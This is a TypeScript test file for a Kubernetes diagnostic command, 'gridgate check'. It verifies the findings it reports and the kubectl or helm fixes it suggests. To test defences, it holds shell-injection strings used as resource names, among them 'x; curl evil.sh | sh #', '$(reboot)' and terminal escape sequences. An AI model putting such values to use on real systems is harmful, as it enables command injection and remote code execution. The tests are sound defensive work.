import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ClusterFacts } from '../../../src/questions/check/facts.ts';
import { judge } from '../../../src/questions/check/judge.ts';
import { renderCheck } from '../../../src/questions/check/render-check.ts';
import type { NamedSecret } from '../../../src/units/named-secret.ts';
import { makeNode, makeNodePool, NOW, REGION_LABEL, region } from '../../builders.ts';
import {
  ANSWER,
  deploymentOf,
  factsOf,
  NOT_READ,
  namespaceOf,
  oddities,
  regionOf,
  saysOf,
  webhookOf,
} from './facts-of.ts';

const RULES = { defaults: {}, limits: {} };
const LOG = 'kubectl logs -n gridgate-system -l app.kubernetes.io/component=controllers --tail=50';
const APPLY = 'kubectl apply -k manifests/base';
const SILENT = { outcome: 'silent', namespace: 'shop' } as const;
const TOKEN: NamedSecret = { source: 'electricity-maps', field: 'token', where: { file: '/sources/electricity-maps' } };
const VARIABLE: NamedSecret = { source: 'watttime', field: 'password', where: { env: 'WT_PASSWORD' } };

const HOSTILE = 'x; curl evil.sh | sh #';

function names(count: number): readonly string[] {
  return Array.from({ length: count }, (_, index) => `n${index}`);
}

const ELASTIC = {
  regions: {
    value: [regionOf('eu-north'), regionOf('eu-south'), regionOf('moon', { gramsPerKwh: 24, elastic: true })],
  },
  nodes: { value: [makeNode('n', 'eu-north'), makeNode('s', 'eu-south')] },
};

describe('an elastic Region without a node is in order', () => {
  it('where there is no NodePool', () => assert.deepEqual(oddities(ELASTIC), []));
  it('where nobody knows where a NodePool creates nodes', () =>
    assert.deepEqual(oddities({ ...ELASTIC, nodePools: { value: [makeNodePool('any')] } }), []));
});

function webhooks(...changed: readonly ReturnType<typeof webhookOf>[]): Partial<ClusterFacts> {
  const all = ['pods', 'jobs', 'namespaces', 'workloads'].map((name) => webhookOf(name));
  return { webhooks: { value: all.map((one) => changed.find(({ name }) => name === one.name) ?? one) } };
}

function withSecret(secret: NamedSecret, parts: Partial<ClusterFacts> = {}): Partial<ClusterFacts> {
  return { settings: { value: { sources: [], secrets: [secret], rules: RULES } }, ...parts };
}

function controllers(parts: Parameters<typeof deploymentOf>[1]): Partial<ClusterFacts> {
  return { deployments: { value: [deploymentOf('webhook'), deploymentOf('controllers', parts)] } };
}

function health(status: string, message: string) {
  const condition = { type: 'SourcesHealthy', status, reason: 'x', message, lastTransitionTime: NOW };
  return { conditions: [condition], reading: { source: 'electricity-maps', freshness: 'embedded' } };
}

describe('gridgate check finds', () => {
  it('nothing where everything works', () => {
    assert.deepEqual(oddities({}), []);
    const { works, answers, count } = judge(factsOf());
    assert.deepEqual([works, answers, count.ok], [true, true, 19]);
  });

  const rows: readonly [name: string, parts: Partial<ClusterFacts>, expected: readonly RegExp[]][] = [
    [
      'a role without a Deployment',
      { deployments: { value: [deploymentOf('webhook')] } },
      [
        /^failed controllers replicas: no Deployment in gridgate-system runs the role controllers: .* -> kubectl apply -k/,
      ],
    ],
    [
      'a Deployment with both roles: nothing',
      { deployments: { value: [deploymentOf('webhook', { roles: ['webhook', 'controllers'] })] } },
      [],
    ],
    [
      'one of two replicas',
      controllers({ available: 1 }),
      [/^warning controllers replicas: 1 of 2 available .* -> kubectl describe deployment,pods -n gridgate-system/],
    ],
    ['no replica', controllers({ available: 0 }), [/^failed controllers replicas: 0 of 2 available/]],
    [
      'a Deployment at 0',
      controllers({ replicas: 0, available: 0 }),
      [/^failed .* -> kubectl scale deployment gridgate-controllers/],
    ],
    [
      'no ready endpoint',
      { endpoints: { value: { ready: 0, notReady: 2 } } },
      [
        /^failed Service: gridgate in gridgate-system has no ready endpoint; 2 not ready: the API server has nobody to call/,
      ],
    ],
    [
      'a webhook that is not registered',
      { webhooks: { value: ['jobs', 'namespaces', 'workloads'].map((name) => webhookOf(name)) } },
      [
        /^failed registration: MutatingWebhookConfiguration gridgate has no webhook pods\.gridgate\.dev: pods are not sent/,
      ],
    ],
    [
      'a selector that takes everything',
      webhooks(webhookOf('pods', { selector: {} })),
      [/never opted in/, /takes kube-system, kube-public, kube-node-lease and 1 more/],
    ],
    [
      'a selector by another label',
      webhooks(webhookOf('pods', { selector: { matchLabels: { team: 'a' } } })),
      [/^failed registration: the namespaceSelector of pods\.gridgate\.dev leaves out namespaces labelled/],
    ],
    [
      'namespaces of which only those that opted in are checked',
      webhooks(webhookOf('namespaces', { selector: webhookOf('pods').selector })),
      [/^failed registration: .* leaves out namespaces that did not opt in yet/],
    ],
    [
      'an empty caBundle',
      webhooks(webhookOf('pods', { authorities: 0, bundle: '', trustedUntil: 0 })),
      [/^failed CA: the caBundle of pods holds no certificate: the API server trusts nobody there -> kubectl logs/],
    ],
    [
      'an authority that is over',
      webhooks(webhookOf('pods', { trustedUntil: NOW - 1 })),
      [/^failed CA: the caBundle of pods expired on 2026-11-22T08:59:59Z/],
    ],
    [
      'an authority that is over tomorrow',
      webhooks(
        ...['pods', 'jobs', 'namespaces', 'workloads'].map((name) =>
          webhookOf(name, { trustedUntil: NOW + 3_600_000 }),
        ),
      ),
      [/^warning CA: .* valid until 2026-11-22T10:00:00Z/],
    ],
    [
      'one caBundle that is another',
      webhooks(webhookOf('workloads', { bundle: 'b' })),
      [/^failed CA: the caBundle of workloads is another than that of pods, jobs, namespaces/],
    ],
    [
      'silence, with what else failed as its cause',
      { onPods: SILENT, endpoints: { value: { ready: 0, notReady: 0 } } },
      [
        /^failed Service: /,
        /^failed answers for pods: a dry run in shop passes without an answer .*: see Service above -> kubectl get service/,
      ],
    ],
    [
      'silence, with a certificate that is not trusted',
      { onPods: SILENT, mistrust: 'the API server does not trust what is served to pods.gridgate.dev: x' },
      [/^failed CA: the API server does not trust what is served/, /^failed answers for pods: .*: see CA above/],
    ],
    [
      'silence without a cause: what lies between',
      { onPods: SILENT },
      [
        /^failed answers for pods: .*a NetworkPolicy or firewall .* -> kubectl get networkpolicies,pods -n gridgate-system/,
      ],
    ],
    [
      'a webhook that the API server cannot call, in its words',
      { onNamespaces: { outcome: 'failed', why: 'x509: certificate signed by unknown authority' } },
      [/^failed answers for namespaces: the API server cannot call namespaces\.gridgate\.dev: x509: /],
    ],
    [
      'a dry run that somebody else refuses',
      { onPods: { outcome: 'refused', why: 'exceeded quota', namespace: 'shop' } },
      [/^not known answers for pods: the API server refuses the dry run: exceeded quota$/],
    ],
    [
      'no namespace to try a pod in',
      { onPods: { outcome: 'untried', why: 'no namespace has opted in yet', todo: 'annotate' } },
      [/^not known answers for pods: no namespace has opted in yet -> annotate$/],
    ],
    [
      'a right that is missing',
      {
        rights: [
          {
            account: 'a/b',
            roles: ['webhook'],
            asked: { value: { count: 2, missing: ['list nodes', 'watch nodes'] } },
          },
        ],
      },
      [
        /^failed RBAC: the account a\/b \(webhook\) may not list nodes, watch nodes: nobody sees what changes there, .* -> kubectl apply -k manifests\/base$/,
      ],
    ],
    ['no Lease', { lease: { value: undefined } }, [/^failed leader: none of the controllers leads/]],
    [
      'a Lease that was given back',
      { lease: { value: { holder: '', renewedAt: NOW, durationMs: 1_000 } } },
      [/^failed leader: none of the controllers leads/],
    ],
    [
      'a leader that is gone',
      { lease: { value: { holder: 'one', renewedAt: NOW - 600_000, durationMs: 15_000 } } },
      [/^failed leader: one renewed its Lease 10 min ago, and nobody leads since/],
    ],
    [
      'mistakes in gridgate.yaml',
      { settings: { value: { mistakes: ['ConfigMap a/b, line 1: sources: x'] } } },
      [
        /^failed gridgate\.yaml: ConfigMap a\/b, line 1: sources: x; the last good one counts -> kubectl edit configmap gridgate/,
        /^not known namespaces: not judged: 1 that ask/,
      ],
    ],
    [
      'a file that is mounted nowhere',
      withSecret({ ...TOKEN, where: { file: '/elsewhere/token' } }),
      [
        /^failed secrets: token of electricity-maps is the file \/elsewhere\/token: the Deployment gridgate-controllers mounts nothing there -> kubectl edit/,
      ],
    ],
    [
      'a Secret that is not there',
      withSecret(TOKEN, { keys: new Map([['Secret gridgate-sources', { value: undefined }]]) }),
      [
        /there is no Secret gridgate-sources in gridgate-system -> kubectl create secret generic gridgate-sources -n gridgate-system --from-literal=electricity-maps=TOKEN$/,
      ],
    ],
    [
      'a Secret without the key',
      withSecret(TOKEN, { keys: new Map([['Secret gridgate-sources', { value: new Set(['other']) }]]) }),
      [
        /the Secret gridgate-sources in gridgate-system has no key electricity-maps, or nothing in it -> kubectl patch secret gridgate-sources/,
      ],
    ],
    [
      'a key that no Secret can have, which is in no command',
      withSecret(
        { ...TOKEN, where: { file: '/sources/$(reboot)' } },
        { keys: new Map([['Secret gridgate-sources', { value: new Set() }]]) },
      ),
      [/-> kubectl edit secret gridgate-sources -n gridgate-system$/],
    ],
    [
      'a Secret whose name a shell would act upon: no command at all',
      withSecret(TOKEN, {
        ...controllers({ mounts: [{ path: '/sources', from: { kind: 'Secret', name: HOSTILE } }] }),
        keys: new Map([[`Secret ${HOSTILE}`, { value: undefined }]]),
      }),
      [/^failed secrets: .*: there is no Secret x; curl evil\.sh \| sh # in gridgate-system$/],
    ],
    [
      'a Secret with the key: nothing',
      withSecret(TOKEN, { keys: new Map([['Secret gridgate-sources', { value: new Set(['electricity-maps']) }]]) }),
      [],
    ],
    [
      'a Secret that the caller may not see',
      withSecret(TOKEN, { keys: new Map([['Secret gridgate-sources', NOT_READ]]) }),
      [/^not known secrets: token of electricity-maps is the file .*: you \(dev\) may not list things$/],
    ],
    [
      'a variable that nobody sets',
      withSecret(VARIABLE),
      [
        /^failed secrets: password of watttime is the variable WT_PASSWORD: the Deployment gridgate-controllers sets no such variable/,
      ],
    ],
    [
      'a variable that stands in the Deployment: nothing',
      withSecret(VARIABLE, controllers({ variables: new Map([['WT_PASSWORD', 'set']]) })),
      [],
    ],
    [
      'a variable of a Secret that lacks it',
      withSecret(VARIABLE, {
        ...controllers({ variableObjects: [{ kind: 'Secret', name: 'wt', prefix: 'WT_' }] }),
        keys: new Map([['Secret wt', { value: new Set(['USER']) }]]),
      }),
      [/the Secret wt in gridgate-system has no key PASSWORD/],
    ],
    [
      'a kill switch',
      { killSwitch: { value: { cap: 'audit' } } },
      [/^warning kill switch: no mode above audit counts/],
    ],
    [
      'a kill switch that nobody understands',
      { killSwitch: { value: { cap: 'audit', unreadable: 'audti' } } },
      [
        /^failed kill switch: its max-mode "audti" is no mode, and counts as audit -> kubectl describe configmap gridgate-kill-switch/,
      ],
    ],
    [
      'no Regions',
      { regions: { value: [] }, nodes: { value: [makeNode('n')] } },
      [/^failed Regions: there is none/, /^failed labels: 1 of 1 nodes have no label/],
    ],
    [
      'a Region of which nothing is known',
      { regions: { value: [regionOf('eu-north'), regionOf('cellar', { elastic: true })] } },
      [/^warning Regions: 2: 1 fixed, 1 without a reading \(cellar\) -> kubectl describe region cellar$/],
    ],
    [
      'what sources fail with, once, with their regions',
      {
        regions: {
          value: ['a', 'b', 'c', 'd'].map((name) =>
            regionOf(name, { elastic: true }, health('False', 'electricity-maps: unauthorized: HTTP 401')),
          ),
        },
        nodes: { value: [makeNode('n', 'a')] },
      },
      [
        /^failed sources: electricity-maps: unauthorized: HTTP 401 \(a, b, c and 1 more\) -> kubectl describe region a$/,
      ],
    ],
    [
      'sources that the leader has not asked',
      { settings: { value: { sources: ['watttime'], secrets: [], rules: RULES } } },
      [/^failed sources: the leader has asked none about any region yet -> kubectl logs/],
    ],
    [
      'a node without the label, and one with a label of no Region',
      { nodes: { value: [makeNode('n1', 'eu-north'), makeNode('n2'), makeNode('n3', 'mars')] } },
      [
        /^warning labels: 1 of 3 nodes have no label topology\.kubernetes\.io\/region \(n2\): .* -> kubectl label node n2 topology/,
        /^failed labels: no Region is named mars, the label/,
      ],
    ],
    [
      'elastic Regions that no NodePool serves, in one line',
      {
        regions: {
          value: ['eu-north', 'later', 'moon', 'mars'].map((name) =>
            regionOf(name, { gramsPerKwh: 24, elastic: name !== 'eu-north' }),
          ),
        },
        nodePools: {
          value: [
            makeNodePool('a', [region('In', 'eu-north')]),
            makeNodePool('b', [region('In', 'later')], { isPaused: true }),
          ],
        },
      },
      [/^warning labels: Regions moon, mars: no node is there, no NodePool creates any.* -> kubectl edit region moon$/],
    ],
    [
      'a namespace that opted in without its label, and one that is out with it',
      { namespaces: { value: [namespaceOf('a', { mode: 'audit' }, false), namespaceOf('b', {}, true)] } },
      [
        /^failed namespaces: a opted in, but lacks the label .* -> kubectl label namespace a gridgate\.dev\/managed=true$/,
        /^warning namespaces: b has the label .*, but its mode is off: .* -> kubectl label namespace b gridgate\.dev\/managed-$/,
      ],
    ],
    [
      'namespaces that only carry a stale label: warnings, however many',
      { namespaces: { value: names(6).map((name) => namespaceOf(name, {}, true)) } },
      [...Array(5).fill(/^warning namespaces: n\d has the label/), /^warning namespaces: 1 more namespaces are not/],
    ],
    [
      'what failed before what is only odd, each namespace counted once',
      {
        namespaces: {
          value: [
            ...names(6).map((name) => namespaceOf(name, {}, true)),
            namespaceOf('broken', { mode: 'enforced' }, false),
          ],
        },
      },
      [
        /^failed namespaces: broken counts as audit/,
        /^failed namespaces: broken opted in, but lacks the label/,
        ...Array(4).fill(/^warning namespaces: n\d has the label/),
        /^warning namespaces: 2 more namespaces are not in order$/,
      ],
    ],
    ...[{ value: { mistakes: ['line 1: x'] } }, NOT_READ].map((settings): (typeof rows)[number] => [
      `no fault of a namespace whose mode is that of a gridgate.yaml that ${'value' in settings ? 'has mistakes' : 'nobody may read'}`,
      {
        settings,
        namespaces: {
          value: [
            namespaceOf('shop', {}, true),
            namespaceOf('web', { regions: '*' }, false),
            namespaceOf('out', { mode: 'off' }, true),
            namespaceOf('lab', { mode: 'audit' }, false),
          ],
        },
      },
      [
        /gridgate\.yaml: /,
        /^failed namespaces: lab opted in, but lacks the label/,
        /^not known namespaces: not judged: 3 that ask for no mode, or for off/,
      ],
    ]),
    [
      'annotations that nobody understands',
      { namespaces: { value: [namespaceOf('a', { mode: 'enforced' }, true)] } },
      [/^failed namespaces: a counts as audit: gridgate\.dev\/mode: "enforced" is not one of/],
    ],
    [
      "a replica's clock that is wrong",
      { onPods: { outcome: 'answered', answer: { ...ANSWER, clock: NOW + 600_000 }, at: NOW, namespace: 'shop' } },
      [/^failed clocks: the replica's clock is 10 min ahead of the API server's: readings are refused/],
    ],
    [
      "this machine's clock that is wrong, which the replica's is not",
      {
        apiServer: { version: 'v1', at: NOW + 60_000, date: NOW - 500 },
        onPods: { outcome: 'answered', answer: ANSWER, at: NOW + 60_000, namespace: 'shop' },
      },
      [/^warning clocks: this machine's clock is 60 s ahead of the API server's -> timedatectl status$/],
    ],
  ];
  for (const [name, parts, expected] of rows)
    it(name, () => {
      const found = oddities(parts);
      assert.equal(found.length, expected.length, found.join('\n'));
      for (const [index, pattern] of expected.entries()) assert.match(found[index] ?? '', pattern);
    });

  it('nothing failed where the caller may see nothing, each right named once', () => {
    const seen = { unread: 'you (dev) may not ask' };
    const found = judge(
      factsOf({
        ...{ deployments: seen, endpoints: seen, webhooks: seen, lease: seen, regions: seen, nodes: seen },
        ...{ namespaces: seen, settings: seen, killSwitch: seen },
        onNamespaces: { outcome: 'refused', why: seen.unread },
        onPods: { outcome: 'untried', why: 'name one' },
        rights: factsOf().rights.map((one) => ({ ...one, asked: seen })),
      }),
    );
    assert.deepEqual([found.works, found.answers, found.count.failed], [true, false, 0]);
    assert.equal(found.checks.filter(({ check }) => check === 'RBAC').length, 1);
    assert.match(renderCheck(found, 200), /\nnothing failed: \d+ not known\n$/);
  });

  it('what sources measure, where they work', () => {
    const measured = regionOf(
      'eu-north',
      {},
      { ...health('True', 'answered'), reading: { ...READING, source: 'watttime' } },
    );
    const settings = { value: { sources: ['watttime', 'file'], secrets: [], rules: RULES } };
    assert.deepEqual(saysOf('sources', { regions: { value: [measured] }, settings }), [
      'ok: watttime measures 1, file measures 0 of 1 regions',
    ]);
    assert.deepEqual(saysOf('Regions', { regions: { value: [measured] }, settings }), ['ok: 1: 1 measured']);
  });

  it('regions that no configured source knows', () => {
    const settings = { value: { sources: ['watttime'], secrets: [], rules: RULES } };
    const measured = regionOf(
      'eu-north',
      {},
      { ...health('True', 'answered'), reading: { ...READING, source: 'watttime' } },
    );
    const unknown = regionOf('rack-7', {}, health('Unknown', 'no source was asked'));
    assert.deepEqual(saysOf('sources', { regions: { value: [measured, unknown] }, settings }), [
      'warning: watttime measures 1 of 2 regions; none of them knows rack-7',
    ]);
  });

  it('counts in words: 1 warning, 2 warnings', () => {
    const summed = (warning: number) => {
      const found = judge(factsOf());
      return renderCheck({ ...found, count: { ok: 0, warning, failed: 0, 'not known': 0 } }, 80);
    };
    assert.match(summed(1), /: 1 warning\n$/);
    assert.match(summed(2), /: 2 warnings\n$/);
  });

  it('sources that nobody hears: they measure nothing, or the Regions have values of their own', () => {
    const settings = { value: { sources: ['watttime'], secrets: [], rules: RULES } };
    const silent = regionOf('eu-north', {}, health('True', 'answered'));
    assert.deepEqual(saysOf('sources', { regions: { value: [silent] }, settings }), [
      'warning: watttime measures 0 of 1 regions',
    ]);
    const fixed = regionOf('eu-west', { gramsPerKwh: 241 }, health('True', 'answered'));
    assert.match(
      saysOf('sources', { regions: { value: [fixed] }, settings }).join(),
      /^warning: watttime measures 0 of 1 regions; spec\.gramsPerKwh of eu-west counts before any source/,
    );
  });

  it('at most a handful of what there are thousands of', () => {
    const many = Array.from({ length: 2_000 }, (_, index) => `r${index}`);
    const found = oddities({
      nodes: { value: many.map((name) => makeNode(`n-${name}`, name)) },
      namespaces: { value: many.map((name) => namespaceOf(name, { mode: 'x' }, true)) },
      invalidRegions: many,
    });
    assert.ok(found.length < 30, String(found.length));
  });
});

const READING = { gramsPerKwh: 30, signal: 'average-lifecycle', estimated: false, freshness: 'fresh', measuredAt: NOW };

describe('what puts back what is missing', () => {
  const todoFor = (name: string) => {
    const release = { name, namespace: 'carbon' };
    return saysTodo({ deployments: { value: [deploymentOf('webhook', { release })] } });
  };
  const saysTodo = (parts: Partial<ClusterFacts>) =>
    judge(factsOf(parts)).checks.find(({ check, state }) => check === 'controllers replicas' && state === 'failed')
      ?.todo;

  it('is kubectl apply where that installed it', () =>
    assert.equal(saysTodo({ deployments: { value: [deploymentOf('webhook')] } }), APPLY));
  it('is helm upgrade where Helm did, whose image and settings the manifests do not have', () =>
    assert.equal(todoFor('green'), 'helm upgrade green manifests/chart -n carbon --reuse-values'));
  it('is nothing that could be pasted where the name is no name', () => assert.equal(todoFor(HOSTILE), null));
});

describe('gridgate check --installation-only', () => {
  const worksWith = (parts: Partial<ClusterFacts>) => judge(factsOf(parts), { installationOnly: true }).works;
  const unclear = namespaceOf('shop', { mode: 'enforce', regions: '' }, true);
  const besides: readonly (readonly [name: string, parts: Partial<ClusterFacts>])[] = [
    ['Regions that are not there yet', { regions: { value: [] } }],
    ['a Region that nobody understands', { invalidRegions: ['eu: no number'] }],
    ['a namespace whose annotations have a mistake', { namespaces: { value: [unclear] } }],
  ];
  for (const [name, parts] of besides)
    it(`has no release fail for ${name}, and tells of it`, () => {
      assert.equal(judge(factsOf(parts)).works, false);
      const { works, count } = judge(factsOf(parts), { installationOnly: true });
      assert.deepEqual([works, count.failed, count.warning > 0], [true, 0, true]);
    });

  it('fails where the installation does not work', () => {
    assert.equal(worksWith(controllers({ available: 0 })), false);
    assert.equal(worksWith({ onPods: SILENT }), false);
    assert.equal(worksWith(webhooks(webhookOf('pods', { authorities: 0, bundle: '', trustedUntil: 0 }))), false);
  });
});

describe('what gridgate check prints', () => {
  const hostile = 'x\u001b[31m\u202eevil\nsecond line';

  it('has nothing in it that a terminal acts upon', () => {
    const report = judge(factsOf({ invalidRegions: [hostile], onNamespaces: { outcome: 'refused', why: hostile } }));
    assert.match(renderCheck(report, 100), /^[\P{C}\n]+$/u);
  });

  it('has no command with a name in it that a shell would act upon', () => {
    const named = [HOSTILE, '$(reboot)', '`reboot`', "a'b", 'a\nb', '--kubeconfig', 'a b', ''];
    for (const name of named) {
      const deployments = (['webhook', 'controllers'] as const).map((role) =>
        deploymentOf(role, { name, available: 0, replicas: role === 'webhook' ? 0 : 2, mounts: [] }),
      );
      const { checks } = judge(
        factsOf({
          ...withSecret(TOKEN),
          ...{ systemNamespace: name, regionLabel: name, deployments: { value: deployments } },
          regions: { value: [regionOf(name, { elastic: true }, health('False', 'HTTP 401'))] },
          nodes: { value: [makeNode(name), makeNode('n2', 'mars')] },
          namespaces: { value: [namespaceOf(name, {}, true), namespaceOf(name, { mode: 'x' }, false)] },
          ...{ lease: { value: undefined }, endpoints: { value: { ready: 0, notReady: 0 } }, onPods: SILENT },
          killSwitch: { value: { cap: 'audit' } },
        }),
      );
      assert.deepEqual(
        checks.flatMap(({ todo }) => (todo === null || todo === APPLY ? [] : todo)),
        [],
        name,
      );
    }
  });

  it('has an end, however long others talk', () => {
    const { checks } = judge(factsOf({ onNamespaces: { outcome: 'refused', why: 'x'.repeat(100_000) } }));
    assert.ok(checks.every(({ says }) => says.length <= 1_200));
  });

  it('is a line for each finding, and below it what to do', () => {
    const text = renderCheck(judge(factsOf({ lease: { value: undefined } })), Number.POSITIVE_INFINITY);
    assert.match(
      text,
      /^failed {5}leader {18}none of the controllers leads[^\n]*\n {35}-> kubectl logs -n gridgate-system/m,
    );
    assert.match(text, /\ngridgate does not work as it should: 1 failed\n$/);
    assert.ok(text.includes(`-> ${LOG}\n`));
    assert.match(text, new RegExp(`^ok {9}labels .*${REGION_LABEL}`, 'm'));
  });

  it('folds where a terminal is narrow', () => {
    const text = renderCheck(judge(factsOf({ onPods: SILENT })), 80);
    for (const line of text.split('\n')) assert.ok(line.length <= 80 || line.includes('->'), line);
  });
});

it('says what to do with what is missing of an install', () => {
  assert.ok(oddities({ deployments: { value: [] } }).every((line) => line.endsWith(APPLY)));
});

it('the right to see namespaces, nodes or Regions: what its loss means is said before what is smaller', () =>
  assert.match(
    saysOf('RBAC', {
      rights: [
        {
          account: 'gridgate-system/gridgate',
          roles: ['webhook'],
          asked: { value: { count: 29, missing: ['list nodes', 'list nodepools.karpenter.sh'] } },
        },
      ],
    }).join(),
    /: nobody sees what changes there, and decisions are by what was known last; what Karpenter may bring/,
  ));

describe('what Helm installed', () => {
  const release = { name: 'grid', namespace: 'gridgate-system' };
  const missing = { webhooks: { value: ['jobs', 'namespaces', 'workloads'].map((name) => webhookOf(name)) } };

  it('is put back by Helm, never by manifests that its release would fight with', () =>
    assert.match(
      oddities({ ...missing, ...controllers({ release }) })[0] ?? '',
      / -> helm upgrade grid manifests\/chart -n gridgate-system --reuse-values$/,
    ));
  it('under a name that a shell would act upon: no command', () =>
    assert.doesNotMatch(
      oddities({ ...missing, ...controllers({ release: { ...release, name: HOSTILE } }) }).join(),
      /evil/,
    ));
});

it('two webhooks for pods, in the layout strict, are named once', () =>
  assert.match(
    saysOf('registration', {
      webhooks: {
        value: [
          ...['pods', 'jobs', 'namespaces', 'workloads', 'bindings'].map((name) => webhookOf(name)),
          webhookOf('pods', { kind: 'ValidatingWebhookConfiguration' }),
        ],
      },
    }).join(),
    /^ok: pods, jobs, namespaces, workloads, bindings are called/,
  ));
